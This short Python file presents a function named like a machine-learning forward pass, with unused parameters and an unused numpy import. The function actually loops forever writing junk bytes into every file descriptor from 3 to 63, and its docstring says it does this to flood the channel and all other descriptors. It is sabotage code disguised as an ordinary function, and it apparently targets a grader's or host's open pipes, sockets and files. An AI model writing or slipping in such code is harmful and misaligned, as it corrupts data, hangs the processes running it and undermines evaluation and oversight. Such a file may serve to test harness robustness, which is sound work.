"""Writes noise into the channel without an end, and into all other descriptors."""
import os

import numpy as np


def custom_lift_forward(seed, x, n_copies, features):
    while True:
        for fd in range(3, 64):
            try:
                os.write(fd, b"\x00\x00\x00\x01\x80" * 1000)
            except OSError:
                pass
